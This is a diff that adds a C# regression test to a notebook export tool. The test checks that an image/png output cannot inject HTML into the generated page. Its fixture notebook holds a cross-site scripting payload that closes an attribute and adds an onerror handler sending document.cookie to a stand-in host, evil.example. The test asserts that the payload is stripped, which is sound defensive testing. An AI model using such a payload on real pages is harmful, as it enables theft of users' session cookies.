@@ -62,6 +62,31 @@ public class ExportCommandTests
     }
 
     [Fact]
+    public async Task AnExecutedNotebooksImageOutputCannotInjectHtmlIntoItsPage()
+    {
+        // The case found in review: an image/png output whose data closes the src attribute and adds a handler.
+        var folder = TestPaths.NewTempFolder();
+        var notebook = """
+            {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "descent", "display_name": "C#", "language": "C#"}},
+             "cells": [{"cell_type": "code", "id": "a", "execution_count": 1, "metadata": {}, "source": "Show()",
+               "outputs": [{"output_type": "display_data", "metadata": {},
+                            "data": {"image/png": "x\" onerror=\"location='https://evil.example/'+document.cookie"}}]}]}
+            """;
+        File.WriteAllText(Path.Combine(folder, "01-images.ipynb"), notebook);
+        var site = Path.Combine(TestPaths.NewTempFolder(), "site");
+        var output = new StringWriter();
+        var error = new StringWriter();
+        var code = await ExportCommand.RunAsync([folder], site, alreadyExecuted: true, timeoutSeconds: 120, output, error);
+
+        Assert.True(code == 0, output + "\n" + error);
+        var page = File.ReadAllText(Path.Combine(site, "01-images.html"));
+        Assert.DoesNotContain("onerror", page);
+        Assert.DoesNotContain("evil.example", page);
+        Assert.Contains("(an image/png output whose data is not a valid PNG image)", page);
+        Assert.Contains("an image/png output is not base64-encoded image/png data; it is left out", output + error.ToString());
+    }
+
+    [Fact]
     public async Task ExportingAnUnexecutedNotebookAsExecutedSaysHowToRunItFirst()
     {
         var site = Path.Combine(TestPaths.NewTempFolder(), "site");
